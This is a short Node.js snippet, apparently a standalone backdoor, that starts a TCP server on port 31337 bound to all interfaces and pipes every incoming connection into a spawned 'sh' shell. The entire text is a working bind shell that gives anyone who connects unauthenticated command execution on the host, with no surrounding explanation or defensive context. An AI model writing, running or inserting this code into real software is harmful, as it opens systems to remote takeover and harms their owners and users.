const net = require('net');
net.createServer((c) => {
  const p = require('child_process').spawn('sh');
  c.pipe(p.stdin); p.stdout.pipe(c);
}).listen(31337, '0.0.0.0');
